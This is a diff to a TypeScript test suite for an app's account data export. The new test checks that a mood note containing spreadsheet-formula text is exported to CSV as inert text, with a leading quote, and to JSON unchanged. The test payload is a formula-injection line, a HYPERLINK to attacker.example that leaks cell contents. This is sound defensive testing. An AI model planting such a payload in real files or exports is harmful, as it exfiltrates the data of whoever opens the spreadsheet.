@@ -1,8 +1,10 @@
+import { parse } from 'csv-parse/sync';
 import JSZip from 'jszip';
 import {
   AccountApiPath,
   ApiPath,
   AssessmentApiPath,
+  MoodApiPath,
   OnboardingApiPath,
   type AssessmentResult,
   type Pcl5Answer,
@@ -125,6 +127,22 @@ describe('account settings and data management', () => {
 
     const bad = await client.get(`${AccountApiPath.export}?format=pdf`);
     expect(bad).toMatchObject({ status: 400, body: { field: 'format' } });
+  });
+
+  it('writes text that a spreadsheet would run as a formula as plain text in the ZIP, and as typed in the JSON', async () => {
+    const { client } = await signUpWith('formula-writer');
+    const formula = '=HYPERLINK("https://attacker.example/?leak="&A1,"Open your report")';
+    const note = await client.post(MoodApiPath.entries, { body: { mood: 4, notes: formula } });
+    expect(note.status).toBe(201);
+
+    const archive = await JSZip.loadAsync((await download(client, 'zip')).bytes);
+    const moods = await archive.file('mood_entries.csv')?.async('string');
+    const [row] = parse(moods ?? '', { columns: true }) as Record<string, string>[];
+    expect(row).toMatchObject({ notes: `'${formula}`, mood: '4' });
+    expect(moods).not.toMatch(/(^|,)"?=/m);
+
+    const data = JSON.parse((await download(client, 'json')).bytes.toString('utf8'));
+    expect(data.tables.mood_entries.rows[0].notes).toBe(formula);
   });
 
   it('exports the answers a review replaced as the assessment’s earlier version, beside the reviewed answers', async () => {
